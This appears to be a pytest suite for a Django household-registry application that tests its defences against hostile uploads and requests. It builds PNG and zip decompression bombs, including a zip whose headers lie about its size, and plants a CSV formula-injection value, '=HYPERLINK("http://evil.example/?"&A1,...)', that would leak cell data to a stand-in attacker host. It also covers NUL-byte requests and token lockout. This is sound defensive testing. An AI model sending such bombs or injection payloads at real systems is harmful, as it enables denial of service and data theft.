"""Hostile files and requests (issue 15; ADRs 0022, 0023, 0024): each probe that got through,
replayed with the same kind of input made in the test, and what the user or the attacker now
meets — images and exports, job files, scope and request values; spreadsheets and department
lists; API tokens and passwords."""

from __future__ import annotations

import csv
import datetime
import hashlib
import io
import resource
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from PIL import Image
from pytest_django import DjangoCaptureOnCommitCallbacks
from rest_framework.test import APIClient

from anju.accounts.choices import Role
from anju.accounts.models import ApiToken, User, UserRole
from anju.appraisals.tests.conftest import DibaoHome
from anju.archives import services as archive_services
from anju.archives.models import ArchiveDocument
from anju.audit.models import AuditAction, AuditEvent
from anju.cases.choices import Stage
from anju.cases.models import RenovationCase
from anju.cases.tests.conftest import Officers
from anju.core.tabular import TabularError, open_table
from anju.households.choices import KeyGroup
from anju.households.importjobs import start_list_preview
from anju.households.listimport import list_import_preview, plan_rows, village_alias_save
from anju.households.listparse import FORMULA_MESSAGE, parse_list
from anju.households.models import ListImport, ListImportStatus, VillageAlias
from anju.households.services import house_create, household_create
from anju.households.tests.corpus import make_id
from anju.inspections.photos import process_photo
from anju.jobs.models import Job, JobStatus
from anju.ledgers import services as ledger_services
from anju.regions.codes import level_of
from anju.regions.models import Region
from conftest import PASSWORD
from tests.scenarios.conftest import walk

pytestmark = pytest.mark.django_db


def png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header declares ``width`` × ``height`` grey pixels, with one tiny IDAT:
    140 KB-class bombs are this, plus the compressed zeros."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")
    )


def jpeg(size: tuple[int, int], name: str = "scan.jpg") -> SimpleUploadedFile:
    out = io.BytesIO()
    Image.new("RGB", size, (120, 110, 100)).save(out, "JPEG", quality=70)
    return SimpleUploadedFile(name, out.getvalue(), content_type="image/jpeg")


@pytest.fixture
def filed_case(case: RenovationCase, officers: Officers) -> RenovationCase:
    walk(case, officers, Stage.FILED)
    case.refresh_from_db()
    return case


def test_a_144_megapixel_png_is_refused_before_it_is_decoded(filed_case: RenovationCase, officers: Officers) -> None:
    bomb = SimpleUploadedFile("扫描件.png", png_header_only(12000, 12000), content_type="image/png")
    tracemalloc.start()
    with pytest.raises(ValidationError) as refused:
        archive_services.document_upload(
            acting_user=officers["township"], case=filed_case, code="id_register", upload=bomb
        )
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert "像素过大（12000×12000" in refused.value.messages[0] and "50 百万像素" in refused.value.messages[0]
    assert peak < 20 * 1024 * 1024  # nothing near the 144 MB the pixels would take
    assert not ArchiveDocument.objects.filter(case=filed_case).exists()


def test_an_oversized_scan_is_stored_scaled_down_keeping_the_original_hash(
    filed_case: RenovationCase, officers: Officers
) -> None:
    upload = jpeg((4800, 600), "户口本.jpg")
    original = upload.read()
    upload.seek(0)
    document = archive_services.document_upload(
        acting_user=officers["township"], case=filed_case, code="id_register", upload=upload
    )
    with Image.open(document.file) as stored:
        assert stored.size == (4000, 500)
    assert document.sha256 == hashlib.sha256(original).hexdigest()
    again = SimpleUploadedFile("户口本（重拍）.jpg", original, content_type="image/jpeg")
    with pytest.raises(ValidationError, match="同一文件已归档"):
        archive_services.document_upload(
            acting_user=officers["township"], case=filed_case, code="id_register", upload=again
        )


def test_an_inspection_photo_of_absurd_size_is_refused_with_the_reason() -> None:
    bomb = SimpleUploadedFile("现场.png", png_header_only(20000, 9000), content_type="image/png")
    with pytest.raises(ValidationError, match="像素过大"):
        process_photo(bomb)


def test_a_csv_export_never_hands_excel_a_formula(client: Client, tl_clerk: User, regions: dict[str, Region]) -> None:
    planted = '=HYPERLINK("http://evil.example/?"&A1,"点")'
    household_create(
        acting_user=tl_clerk, region=regions["140405102201"], head_name=planted, head_id_number=make_id(81)
    )
    household_create(
        acting_user=tl_clerk, region=regions["140405102201"], head_name="@SUM(1+1)", head_id_number=make_id(82)
    )
    client.force_login(tl_clerk)
    response = client.get(reverse("households:household_export") + "?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {row[0] for row in rows[1:]}
    assert "'" + planted in names and "'@SUM(1+1)" in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_ledger_made_as_a_job_is_its_starters_alone_checked_again_and_audited(
    client: Client,
    tl_county: User,
    tl_township: User,
    make_user: Callable[..., User],
    covered_home: DibaoHome,
    monkeypatch: pytest.MonkeyPatch,
    django_capture_on_commit_callbacks: DjangoCaptureOnCommitCallbacks,
) -> None:
    monkeypatch.setitem(ledger_services.DIRECT_LIMIT, "xlsx", 0)
    client.force_login(tl_county)
    with django_capture_on_commit_callbacks(execute=True):
        client.get(reverse("ledgers:download", args=["key_groups", "xlsx"]))
    job = Job.objects.get(kind="ledgers.export")
    assert job.status == JobStatus.SUCCEEDED and job.result["file_check"] == "ledgers.full_ids"
    colleague = make_user("tl_city_reader", "140400000000", Role.CITY_OFFICER)
    for other in (tl_township, colleague):
        api = APIClient()
        api.force_authenticate(other)
        assert api.get("/api/jobs/").json()["count"] == 0
        peer = Client()
        peer.force_login(other)
        assert peer.get(reverse("jobs:job_download", args=[job.pk])).status_code == 404
    download = client.get(reverse("jobs:job_download", args=[job.pk]))
    assert download.status_code == 200
    export = AuditEvent.objects.filter(action=AuditAction.EXPORT, object_type="jobs.ledgers.export").get()
    assert export.actor == tl_county and str(job.pk) in str(export.changes)
    # The county officer is moved to a role that sees masked numbers: the old file is refused.
    UserRole.objects.filter(user=tl_county).update(role=Role.CITY_OFFICER)
    refused = client.get(reverse("jobs:job_download", args=[job.pk]))
    assert refused.status_code == 403


def test_creating_a_house_out_of_region_answers_like_a_household_that_does_not_exist(
    tl_clerk: User, ps_admin: User, regions: dict[str, Region]
) -> None:
    village = regions["140405102201"]
    with_house = household_create(acting_user=tl_clerk, region=village, head_name="甲", head_id_number=make_id(91))
    house_create(acting_user=tl_clerk, household=with_house, structure="brick_wood")
    without_house = household_create(acting_user=tl_clerk, region=village, head_name="乙", head_id_number=make_id(92))
    api = APIClient()
    api.force_authenticate(ps_admin)
    answers = [
        api.post("/api/houses/", {"household": pk, "structure": "wood"}, format="json")
        for pk in (with_house.pk, without_house.pk, 999_999, "abc", 10**30)
    ]
    assert {a.status_code for a in answers} == {404}
    assert len({a.content for a in answers}) == 1


def test_a_nul_byte_or_an_impossible_number_in_a_request_is_a_400_in_chinese(client: Client, tl_admin: User) -> None:
    client.force_login(tl_admin)
    for url in ("/api/tasks/?county=%00", "/households/?q=%00"):
        response = client.get(url)
        assert response.status_code == 400 and "空字符" in response.content.decode()
    for year in ("0", "99999", "二〇二六"):
        response = client.get(f"/api/timeliness/?year={year}")
        assert response.status_code == 400 and "年度应为 2009–2100 的整数" in str(response.json())
    too_big = client.get("/api/acceptances/?case=99999999999999999999")
    assert too_big.status_code == 400 and "数值超出范围" in str(too_big.json())
    assert client.get("/api/acceptances/99999999999999999999/").status_code == 404
    body = client.post(
        "/api/rectification-orders/",
        {"findings": [10**30], "requirements": "x", "due_on": "2030-01-01"},
        content_type="application/json",
    )
    assert body.status_code in (400, 404) and body.status_code != 500


# --- spreadsheets and department lists (ADR 0022) ---------------------------------------------

LIST_DATE = datetime.date(2026, 11, 30)
TODAY = datetime.date(2026, 12, 5)


@pytest.fixture
def civil(make_user: Callable[..., User]) -> User:
    return make_user("civil", "140405000000", Role.CIVIL_AFFAIRS)


def xlsx(*sheets: tuple[str, list[list[Any]]]) -> bytes:
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows in sheets:
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


HEADER = ["户主姓名", "身份证号", "所在村"]


def preview(user: Any, data: bytes, name: str = "名单.xlsx", **kw: Any) -> ListImport:
    return list_import_preview(
        acting_user=user,
        data=data,
        filename=name,
        department="civil_affairs",
        group=KeyGroup.DIBAO,
        list_date=LIST_DATE,
        **kw,
    )


def zip_bomb(megabytes: int) -> bytes:
    """A real workbook whose first sheet is one inline-string cell of ``megabytes`` MB of "A"."""
    base = xlsx(("名单", [HEADER]))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info, src.read(info))
        with dst.open("xl/worksheets/sheet1.xml", "w", force_zip64=megabytes > 1000) as sheet:
            sheet.write(
                b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
            )
            block = b"A" * (1 << 20)
            for _ in range(megabytes):
                sheet.write(block)
            sheet.write(b"</t></is></c></row></sheetData></worksheet>")
    return out.getvalue()


def test_a_zip_bomb_is_refused_without_being_inflated(civil: Any, monkeypatch: Any) -> None:
    bomb = zip_bomb(200)
    assert len(bomb) < 1_000_000  # 200 MB of cell in well under 1 MB of file

    def calamine_must_not_see_it(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("the bomb reached calamine")

    monkeypatch.setattr("anju.core.tabular.CalamineWorkbook.from_filelike", calamine_must_not_see_it)
    tracemalloc.start()
    try:
        with pytest.raises(TabularError, match="压缩炸弹"):
            open_table(bomb, "bomb.xlsx")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 20 * 1024 * 1024, peak  # the 200 MB were never held
    record = preview(civil, bomb, "bomb.xlsx")
    assert record.status == ListImportStatus.FAILED and "压缩炸弹" in record.error


def test_a_bomb_whose_ratio_passes_is_stopped_by_the_total_and_by_the_cell_length(settings: Any) -> None:
    bomb = zip_bomb(12)
    settings.ANJU_SPREADSHEET_MAX_COMPRESSION_RATIO = 100_000
    settings.ANJU_SPREADSHEET_MAX_UNCOMPRESSED_MB = 8
    with pytest.raises(TabularError, match="解压后超过 8 MB"):
        open_table(bomb, "bomb.xlsx")
    settings.ANJU_SPREADSHEET_MAX_UNCOMPRESSED_MB = 64
    with pytest.raises(TabularError, match="超过 32767 个字的单元格"):
        open_table(bomb, "bomb.xlsx")


def lie_about_size(data: bytes, name: str, size: int) -> bytes:
    """The zip with ``name`` declaring ``size`` uncompressed bytes in both of its headers."""
    buf = bytearray(data)
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(name)
    struct.pack_into("<I", buf, info.header_offset + 22, size)
    at = buf.find(b"PK\x01\x02")
    while at >= 0:
        length = struct.unpack_from("<H", buf, at + 28)[0]
        if buf[at + 46 : at + 46 + length] == name.encode():
            struct.pack_into("<I", buf, at + 24, size)
        at = buf.find(b"PK\x01\x02", at + 4)
    return bytes(buf)


def test_a_bomb_that_lies_about_its_size_is_measured_as_it_inflates(settings: Any) -> None:
    liar = lie_about_size(zip_bomb(40), "xl/worksheets/sheet1.xml", 1000)
    assert zipfile.ZipFile(io.BytesIO(liar)).getinfo("xl/worksheets/sheet1.xml").file_size == 1000
    with pytest.raises(TabularError, match="超过 32767 个字的单元格"):  # the first bound it meets
        open_table(liar, "liar.xlsx")
    settings.ANJU_SPREADSHEET_MAX_CELL_CHARS = 100_000_000
    with pytest.raises(TabularError, match="压缩炸弹"):
        open_table(liar, "liar.xlsx")
    settings.ANJU_SPREADSHEET_MAX_COMPRESSION_RATIO = 100_000
    settings.ANJU_SPREADSHEET_MAX_UNCOMPRESSED_MB = 16
    with pytest.raises(TabularError, match="解压后超过 16 MB"):
        open_table(liar, "liar.xlsx")


def test_too_many_rows_columns_or_an_over_long_cell_is_refused(settings: Any) -> None:
    settings.ANJU_SPREADSHEET_MAX_ROWS = 50
    settings.ANJU_SPREADSHEET_MAX_COLUMNS = 10
    settings.ANJU_SPREADSHEET_MAX_CELL_CHARS = 100
    many_rows = xlsx(("名单", [HEADER] + [[f"户{i}", make_id(i), "北渔泽村"] for i in range(60)]))
    with pytest.raises(TabularError, match="超过上限 50 行"):
        parse_list(many_rows, "rows.xlsx", today=TODAY)
    wide = xlsx(("名单", [HEADER + [f"备注{i}" for i in range(12)], ["张三", make_id(1), "北渔泽村"]]))
    with pytest.raises(TabularError, match="超过上限 10 列"):
        parse_list(wide, "wide.xlsx", today=TODAY)
    long_cell = xlsx(("名单", [HEADER, ["张三" * 60, make_id(1), "北渔泽村"]]))
    with pytest.raises(TabularError, match="超过 100 个字的单元格"):
        parse_list(long_cell, "long.xlsx", today=TODAY)
    csv_rows = ("户主姓名,身份证号\n" + "".join(f"户{i},{make_id(i)}\n" for i in range(60))).encode()
    with pytest.raises(TabularError, match="超过 50 行"):
        parse_list(csv_rows, "rows.csv", today=TODAY)
    # Two cells far apart: calamine would hold the whole rectangle between them.
    settings.ANJU_SPREADSHEET_MAX_ROWS = 1_048_576
    settings.ANJU_SPREADSHEET_MAX_COLUMNS = 200
    settings.ANJU_SPREADSHEET_MAX_CELLS = 1_000_000
    wb = openpyxl.Workbook()
    wb.active["A1"] = "户主姓名"
    wb.active["AD200000"] = "x"
    buf = io.BytesIO()
    wb.save(buf)
    with pytest.raises(TabularError, match="200000 行 × 30 列"):
        open_table(buf.getvalue(), "sparse.xlsx")


def test_the_original_file_is_masked_for_a_city_officer_and_audited_for_everyone(
    client: Any, civil: Any, make_user: Any
) -> None:
    number = make_id(11)
    data = xlsx(("名单", [["户主姓名", "身份证号", "所在村", "联系电话"], ["张三", number, "北渔泽村", "13812345678"]]))
    record = preview(civil, data)
    url = reverse("households:import_original", args=[record.pk])
    city = make_user("city", "140400000000", Role.CITY_OFFICER)
    client.force_login(city)
    page = client.get(reverse("households:import_detail", args=[record.pk])).content.decode()
    assert "脱敏副本" in page
    response = client.get(url)
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [c.value for row in sheet.iter_rows() for c in row]
    assert "张三" in cells and number not in cells and "13812345678" not in cells
    assert number[:4] + "*" * 10 + number[-4:] in cells and "138****5678" in cells
    county = make_user("county", "140405000000", Role.COUNTY_OFFICER)
    client.force_login(county)
    response = client.get(url)
    assert response.getvalue() == data
    exports = AuditEvent.objects.filter(action="export", object_type="households.listimport.original")
    assert {(e.actor_username, e.changes["filters"]["after"]["copy"]) for e in exports} == {
        ("city", "脱敏副本"),
        ("county", "原件"),
    }
    # A file that could not be read is not re-read to mask it: refused with a reason.
    failed = preview(civil, zip_bomb(20), "bomb.xlsx")
    client.force_login(city)
    refused = client.get(reverse("households:import_original", args=[failed.pk]))
    assert refused.status_code == 403 and "脱敏副本" in refused.content.decode()


@pytest.fixture
def two_xijie(regions: dict[str, Region]) -> tuple[Region, Region]:
    """西街村委会 in 麟绛街道 and in 余吾镇 (the same name in two towns, as in 屯留区's neighbours)."""
    made: dict[str, Region] = {}
    for code, name, parent in (
        ("140405001000", "麟绛街道", "140405000000"),
        ("140405001201", "西街村委会", "140405001000"),
        ("140405103201", "西街村委会", "140405103000"),
    ):
        made[code] = Region.objects.create(
            code=code, name=name, level=level_of(code), parent=made.get(parent) or regions[parent]
        )
    return made["140405001201"], made["140405103201"]


def test_two_towns_with_the_same_village_name_are_told_apart_by_the_township_column(
    civil: Any, two_xijie: tuple[Region, Region]
) -> None:
    linjiang, yuwu = two_xijie
    rows = [
        ["户主姓名", "身份证号", "乡镇", "村"],
        ["甲", make_id(21), "麟绛街道", "西街村"],
        ["乙", make_id(22), "余吾镇", "西街"],
    ]
    record = preview(civil, xlsx(("名单", rows)))
    assert record.counts["invalid"] == 0 and record.counts["new_households"] == 2
    assert {r["name"]: r["region_code"] for r in plan_rows(record, "N")} == {"甲": linjiang.code, "乙": yuwu.code}
    # Without the 乡镇 column the same name is ambiguous, and goes to the mapping step.
    without = preview(civil, xlsx(("名单", [["户主姓名", "身份证号", "村"], ["甲", make_id(21), "西街村委会"]])))
    assert "重名村" in without.preview["invalid"][0]["errors"]["所在村"]
    assert {pk for pk, _ in without.preview["unmatched_villages"][0]["candidates"]} == {linjiang.pk, yuwu.pk}
    # A choice for the bare name does not override a list that names the 乡镇.
    village_alias_save(acting_user=civil, township="", name="西街村委会", village=linjiang)
    again = preview(civil, xlsx(("名单", rows)))
    assert {r["name"]: r["region_code"] for r in plan_rows(again, "N")} == {"甲": linjiang.code, "乙": yuwu.code}
    bare = preview(civil, xlsx(("名单", [["户主姓名", "身份证号", "村"], ["甲", make_id(21), "西街"]])))
    assert [r["region_code"] for r in plan_rows(bare, "N")] == [linjiang.code]


def test_a_name_as_written_goes_to_mapping_and_the_choice_is_remembered(
    client: Any, civil: Any, regions: dict[str, Region], django_capture_on_commit_callbacks: Any
) -> None:
    rows = [HEADER, ["甲", make_id(31), "渔泽村"], ["乙", make_id(32), "渔泽村"]]
    record = preview(civil, xlsx(("名单", rows)))
    assert record.counts["new_households"] == 0 and record.counts["invalid"] == 2  # never half-matched
    [unmatched] = record.preview["unmatched_villages"]
    assert unmatched["name"] == "渔泽村" and unmatched["rows"] == 2
    north, south = regions["140405102201"], regions["140405102202"]
    assert [pk for pk, _ in unmatched["candidates"]] == [north.pk, south.pk]  # offered, not chosen
    client.force_login(civil)
    page = client.get(reverse("households:import_detail", args=[record.pk])).content.decode()
    assert "村名对应" in page and "按新的对应重新预览" in page
    client.post(
        reverse("households:import_village_map", args=[record.pk]),
        {"township": "", "name": "渔泽村", "village": north.pk},
    )
    alias = VillageAlias.objects.get()
    assert alias.village == north and alias.county_code == "140405000000" and alias.name_key == "渔泽"
    event = AuditEvent.objects.get(object_type="households.villagealias")
    assert event.actor == civil and event.changes["village"]["after"] == north.code
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("households:import_reread", args=[record.pk]))
    job = Job.objects.get(kind="households.list_preview")
    assert response.status_code == 302 and job.status == JobStatus.SUCCEEDED, job.message
    again = ListImport.objects.get(pk=job.result["list_import"])
    assert again.counts["new_households"] == 2 and again.counts["invalid"] == 0
    record.refresh_from_db()
    assert record.status == ListImportStatus.CANCELLED  # the stale preview cannot be committed
    # A later list of the county reuses the choice.
    later = preview(civil, xlsx(("名单", [HEADER, ["丙", make_id(33), "渔泽村委会"]])))
    assert later.counts["new_households"] == 1 and later.preview["new_households"][0]["village_name"] == north.name


def test_an_id_number_stored_as_a_number_is_refused_with_the_excel_message() -> None:
    number = make_id(41)
    data = xlsx(("名单", [HEADER, ["甲", int(number[:17] + "0"), "北渔泽村"], ["乙", number, "北渔泽村"]]))
    parsed = parse_list(data, "数字.xlsx", today=TODAY)
    [bad] = parsed.invalid
    assert bad.line == 2 and "Excel 中存成了数字" in bad.errors["身份证号"] and "文本" in bad.errors["身份证号"]
    assert [r.values["head_name"] for r in parsed.valid] == ["乙"]
    text = f"户主姓名,身份证号\n甲,1.40405E+17\n乙,{number}\n".encode()
    assert "Excel 中存成了数字" in parse_list(text, "数字.csv", today=TODAY).invalid[0].errors["身份证号"]


def test_a_list_on_the_second_sheet_is_found_and_two_lists_ask_which(
    client: Any, civil: Any, django_capture_on_commit_callbacks: Any
) -> None:
    second = xlsx(("说明", [["填表说明：身份证号请设为文本"]]), ("低保名单", [HEADER, ["甲", make_id(51), "北渔泽村"]]))
    record = preview(civil, second)
    assert record.status == ListImportStatus.PREVIEWED and record.counts["new_households"] == 1
    assert record.preview["sheet"] == "低保名单"
    client.force_login(civil)
    page = client.get(reverse("households:import_detail", args=[record.pk])).content.decode()
    assert "读取的工作表：<strong>低保名单</strong>" in page
    none = xlsx(("说明", [["无"]]), ("其他", [["姓名", "电话"]]))
    failed = preview(civil, none)
    assert "找不到表头" in failed.error and "全部 2 个工作表：说明、其他" in failed.error
    two = xlsx(("一月", [HEADER, ["甲", make_id(51), "北渔泽村"]]), ("二月", [HEADER, ["乙", make_id(52), "南渔泽村"]]))
    asked = preview(civil, two)
    assert asked.status == ListImportStatus.FAILED and asked.preview["sheets"] == ["一月", "二月"]
    page = client.get(reverse("households:import_detail", args=[asked.pk])).content.decode()
    assert "请选择要导入的工作表" in page
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("households:import_reread", args=[asked.pk]), {"sheet": "二月"})
    job = Job.objects.get(kind="households.list_preview")
    chosen = ListImport.objects.get(pk=job.result["list_import"])
    assert chosen.preview["sheet"] == "二月" and chosen.preview["new_households"][0]["name"] == "乙"


def test_zero_width_and_control_characters_are_stripped() -> None:
    number = make_id(61)
    data = xlsx(("名单", [HEADER, ["\ufeff张\u200b三\u200d", f"\u2060{number}\u200c", "北渔泽村\u200b"]]))
    [row] = parse_list(data, "零宽.xlsx", today=TODAY).rows
    assert row.errors == {}
    assert (
        row.values["head_name"] == "张三" and row.values["id_number"] == number and row.values["village"] == "北渔泽村"
    )
    # openpyxl refuses control characters; a CSV carries them.
    text = f"户主姓名,身份证号,所在村\n\x07李\x1f四\u200b,{number}\x1b,北渔泽村\n"
    [row] = parse_list(text.encode(), "控制符.csv", today=TODAY).rows
    assert row.errors == {} and row.values["head_name"] == "李四" and row.values["id_number"] == number


def test_a_formula_without_a_cached_value_is_reported_as_a_formula() -> None:
    # openpyxl writes formulas without their computed values, as some exporting tools do.
    data = xlsx(("名单", [[*HEADER, "姓"], ['=D2&"三"', make_id(71), "北渔泽村", "张"]]))
    [row] = parse_list(data, "公式.xlsx", today=TODAY).rows
    assert row.errors == {"户主姓名": FORMULA_MESSAGE}
    assert "姓名为空" not in str(row.errors)


def test_an_import_over_its_memory_limit_fails_and_the_worker_carries_on(
    civil: Any, settings: Any, monkeypatch: Any, django_capture_on_commit_callbacks: Any
) -> None:
    settings.ANJU_IMPORT_MEMORY_LIMIT_MB = 64
    before = resource.getrlimit(resource.RLIMIT_AS)

    def greedy(**kwargs: Any) -> None:
        bytearray(1 << 30)  # what a bomb that got past every other bound would do

    monkeypatch.setattr("anju.households.handlers.list_import_preview", greedy)
    data = xlsx(("名单", [HEADER, ["甲", make_id(81), "北渔泽村"]]))
    with django_capture_on_commit_callbacks(execute=True):
        job = start_list_preview(
            acting_user=civil,
            filename="名单.xlsx",
            data=data,
            department="civil_affairs",
            group="",
            list_date=LIST_DATE,
        )
    job.refresh_from_db()
    assert job.status == JobStatus.FAILED and "内存上限（64 MB）" in job.message
    assert resource.getrlimit(resource.RLIMIT_AS) == before  # put back for the next job
    monkeypatch.undo()
    with django_capture_on_commit_callbacks(execute=True):
        job = start_list_preview(
            acting_user=civil,
            filename="名单.xlsx",
            data=data,
            department="civil_affairs",
            group="",
            list_date=LIST_DATE,
        )
    job.refresh_from_db()
    assert job.status == JobStatus.SUCCEEDED


def test_too_many_parts_and_an_oversized_legacy_xls_are_refused(settings: Any) -> None:
    settings.ANJU_SPREADSHEET_MAX_ENTRIES = 5
    with pytest.raises(TabularError, match="超过上限 5"):
        open_table(xlsx(("名单", [HEADER])), "parts.xlsx")
    settings.ANJU_SPREADSHEET_MAX_XLS_MB = 1
    legacy = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * (2 << 20)
    with pytest.raises(TabularError, match=r"旧版 Excel（\.xls）文件超过 1 MB"):
        open_table(legacy, "名单.xls")


# --- API tokens and passwords (ADR 0023) --------------------------------------------------------


# What a dead token meets: DRF's 403 with a Chinese detail (the session class comes first).
REFUSED = 403


def ask_token(username: str, device: str, password: str = PASSWORD) -> Any:
    return APIClient().post(
        reverse("api:token"), {"username": username, "password": password, "name": device}, format="json"
    )


def me_with(token: str) -> Any:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    return client.get(reverse("api:me"))


def test_a_token_stops_working_once_its_owner_changes_the_password(client: Client, tl_clerk: User) -> None:
    token = ask_token("tl_clerk", "张三的手机").json()["token"]
    assert me_with(token).status_code == 200
    # The clerk suspects the phone was copied and changes the password on the web page.
    client.force_login(tl_clerk)
    client.post(
        reverse("accounts:password_change"),
        {"old_password": PASSWORD, "password1": "Brand2024newpw", "password2": "Brand2024newpw"},
    )
    refused = me_with(token)
    assert refused.status_code == REFUSED and "令牌" in refused.json()["detail"]
    assert ask_token("tl_clerk", "张三的手机", password="Brand2024newpw").status_code == 201


def test_a_token_stops_working_when_someone_locks_the_account_by_guessing(tl_clerk: User) -> None:
    token = ask_token("tl_clerk", "张三的手机").json()["token"]
    answers = [ask_token("tl_clerk", "猜密码", password=f"guess-2024-{n}").status_code for n in range(5)]
    assert settings.AXES_FAILURE_LIMIT == 5 and answers == [400, 400, 400, 400, 429]  # locked at the fifth
    assert me_with(token).status_code == REFUSED
    locked = ask_token("tl_clerk", "张三的手机")
    assert locked.status_code == 429 and "账号已被暂时锁定" in locked.json()["detail"]
    # The login page is locked too: the same django-axes counter.
    page = APIClient().post(reverse("accounts:login"), {"username": "tl_clerk", "password": PASSWORD})
    assert page.status_code == 429


def test_a_token_stops_working_when_the_admin_deactivates_the_user(
    client: Client, tl_admin: User, tl_clerk: User
) -> None:
    token = ask_token("tl_clerk", "张三的手机").json()["token"]
    client.force_login(tl_admin)
    client.post(
        reverse("accounts:user_edit", args=[tl_clerk.pk]),
        {
            "full_name": tl_clerk.full_name,
            "region": tl_clerk.region_id,
            "roles": ["village_clerk"],
            "phone": "",
            "organization": "",
        },  # "启用" unticked
    )
    tl_clerk.refresh_from_db()
    assert not tl_clerk.is_active
    assert me_with(token).status_code == REFUSED
    assert ask_token("tl_clerk", "张三的手机").status_code == 400


def test_a_token_expires(tl_clerk: User) -> None:
    body = ask_token("tl_clerk", "张三的手机").json()
    expiry = datetime.datetime.fromisoformat(body["expiry"])
    assert datetime.timedelta(days=29) < expiry - timezone.now() <= datetime.timedelta(days=30)
    # Thirty days on: move the expiry into the past instead of waiting.
    ApiToken.objects.filter(pk=body["id"]).update(expiry=timezone.now() - datetime.timedelta(minutes=1))
    assert me_with(body["token"]).status_code == REFUSED
    assert not ApiToken.objects.filter(pk=body["id"]).exists()  # knox drops it on sight


def test_two_devices_two_tokens_one_revoked_by_the_user_one_by_the_admin(tl_admin: User, tl_clerk: User) -> None:
    phone = ask_token("tl_clerk", "张三的手机").json()
    tablet = ask_token("tl_clerk", "村委会平板").json()
    assert phone["token"] != tablet["token"]
    owner = APIClient()
    owner.credentials(HTTP_AUTHORIZATION=f"Token {phone['token']}")
    listed = owner.get(reverse("api:apitoken-list")).json()["results"]
    assert sorted(r["name"] for r in listed) == ["张三的手机", "村委会平板"]
    assert owner.delete(reverse("api:apitoken-detail", args=[tablet["id"]])).status_code == 204
    assert me_with(tablet["token"]).status_code == REFUSED and me_with(phone["token"]).status_code == 200
    admin = APIClient()
    admin.force_authenticate(tl_admin)
    assert admin.delete(reverse("api:apitoken-detail", args=[phone["id"]])).status_code == 204
    assert me_with(phone["token"]).status_code == REFUSED
    notes = list(AuditEvent.objects.filter(action=AuditAction.DELETE).order_by("id").values_list("note", flat=True))
    assert notes == ["吊销接口令牌：本人吊销", "吊销接口令牌：管理员吊销"]


def test_the_token_is_not_stored_and_issuing_it_is_audited(tl_clerk: User) -> None:
    body = ask_token("tl_clerk", "张三的手机").json()
    row = ApiToken.objects.get(pk=body["id"])
    values = ApiToken.objects.filter(pk=row.pk).values().first()
    assert values is not None
    stored = " ".join(str(v) for v in values.values())
    assert body["token"] not in stored
    event = AuditEvent.objects.get(action=AuditAction.CREATE, object_type="accounts.apitoken")
    assert event.actor == tl_clerk and event.channel == "api" and "张三的手机" in event.object_repr
    assert body["token"] not in str(event.changes)


def test_weak_passwords_are_refused_in_chinese(client: Client, tl_admin: User, tl_clerk: User) -> None:
    client.force_login(tl_admin)
    for password, message in (("aaaaaaaaaa1", "密码大部分是同一个字符"), ("woaini1314", "这个密码太常见了")):
        response = client.post(
            reverse("accounts:user_reset_password", args=[tl_clerk.pk]), {"password1": password, "password2": password}
        )
        assert message in response.content.decode()
    tl_clerk.refresh_from_db()
    assert tl_clerk.check_password(PASSWORD)
